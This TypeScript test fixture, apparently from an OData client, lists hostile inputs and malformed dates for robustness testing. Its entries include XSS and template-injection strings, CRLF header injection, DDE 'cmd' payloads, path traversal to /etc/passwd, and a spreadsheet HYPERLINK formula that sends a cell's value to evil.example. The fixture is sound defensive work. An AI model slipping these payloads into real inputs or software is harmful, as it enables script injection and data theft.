import type { Row } from '../odata/entitySet.ts'
import { hashOf, hexOf } from './chance.ts'
import type { FileKey } from './files.ts'

/** A name for each hostile text, and the text. */
export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ['Script', '<script>document.title="stolen"</script>'],
  ['Picture', '<img src=x onerror="document.title=\'stolen\'">'],
  ['Link', 'javascript:alert(document.domain)'],
  ['Broken out', '"><svg/onload=alert(1)>\' autofocus onfocus=alert(1) x="'],
  ['Template', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>'],
  ['Turned', '\u202Efdp.exe\u202C and \u2067ltr\u2069 \u200Fend'],
  ['Proto', '__proto__'],
  ['Constructor', 'constructor'],
  ['toString', 'toString'],
  ['Long', 'Zeer lange tekst zonder einde. '.repeat(340)],
  ['Unbroken', 'W'.repeat(10_240)],
  ['Lines', 'first\r\nSet-Cookie: stolen=1\r\n\r\n<h1>second</h1>\ttab'],
  ['Formula', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
  ['Command', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['Dashes', '-2+3+cmd|\' /C calc\'!A0, "quoted", semi;colon'],
  ['Marks', 'Z͑ͫ̓a̴l̷g̸o̵ \u0300\u0301\u0302\u0303'.repeat(8)],
  ['Signs', '👩‍🔧🏴‍☠️ \u{1F600} \u200B\u200D\uFEFF \uFFFF 漢字 עברית العربية'],
  ['Halves', 'lone \uD83D half \uDE00'],
  ['Nul', 'before\u0000after \u0007\u001B[31mred'],
  ['Entities', '&amp;lt;b&amp;gt; &#60;script&#62; %3Cscript%3E ]]> <!-- -->'],
  ['Path', '..\\..\\windows\\system32 ../../etc/passwd file:///etc/passwd'],
  ['Mail', 'a@b.example?bcc=all@evil.example&body=%0D%0Ahello'],
  ['Phone', '+32 9 555 01 42;ext=1,,9#*21*0900#'],
  ['Endless', endlessText()],
]

/** 18,000 signs that no packing makes much smaller: too much for a link. */
export function endlessText(): string {
  return Array.from({ length: 2_000 }, (_, index) => `${hexOf(hashOf(`${index}`))} `).join('')
}

/** Dates that look like dates, by position; each stands in fields a careless parser would trust. */
export const hostileDates: readonly Row[] = [
  { dateutc_max_sla_resolution: '2026-02-30T10:00:00Z' },
  { dateutc_max_sla_resolution: '2015-05-28T11:56:222Z' },
  { dateutc_max_sla_resolution: '/Date(1432814182000)/' },
  { dateutc_max_sla_resolution: '0001-01-01T00:00:00' },
  { dateutc_max_sla_resolution: '9999-12-31T23:59:59.9999999Z' },
  { dateutc_max_sla_resolution: '+275760-09-13T00:00:00.001Z' },
  { dateutc_max_sla_resolution: '1979-12-31T23:00:00Z', date_create: '1979-12-31T19:00:00-05:00' },
  { dateutc_max_sla_resolution: 'tomorrow' },
]

/** Documents that are more than they seem. */
export const hostileFiles: readonly FileKey[] = ['plan', 'page', 'display', 'hidden', 'posing']
